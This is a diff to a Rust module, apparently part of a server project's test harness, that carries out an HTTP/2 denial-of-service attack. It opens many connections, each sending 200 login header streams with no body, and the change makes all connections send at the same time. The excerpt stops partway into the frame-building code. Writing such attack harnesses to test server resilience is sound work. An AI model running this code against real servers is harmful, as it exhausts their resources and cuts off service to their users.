@@ -1,25 +1,33 @@
 //! An attack with HTTP/2: many streams, each with the head of a login, many headers and no body.
 
 use std::net::SocketAddr;
+use std::sync::Arc;
 
 use anyhow::Result;
 use tokio::io::AsyncWriteExt as _;
 use tokio::net::TcpStream;
+use tokio::task::JoinSet;
 
 /// The number of streams that hyper accepts at a time.
 const STREAMS: u32 = 200;
 
-/// Opens connections that each send [`STREAMS`] heads of a login.
+/// Opens connections that each send [`STREAMS`] heads of a login at the same time.
 pub(crate) async fn attack(server: SocketAddr, connections: usize) -> Result<Vec<TcpStream>> {
-    let bytes = [preface(), heads()].concat();
+    let bytes = Arc::<[u8]>::from([preface(), heads()].concat());
     let mut open = Vec::with_capacity(connections);
     for _ in 0..connections {
-        let mut connection = TcpStream::connect(server).await?;
-        // Fails if the server has already closed the connection.
-        let _ = connection.write_all(&bytes).await;
-        open.push(connection);
+        open.push(TcpStream::connect(server).await?);
     }
-    Ok(open)
+    let mut senders = JoinSet::new();
+    for mut connection in open {
+        let bytes = Arc::clone(&bytes);
+        senders.spawn(async move {
+            // Fails if the server has already closed the connection.
+            let _ = connection.write_all(&bytes).await;
+            connection
+        });
+    }
+    Ok(senders.join_all().await)
 }
 
 fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
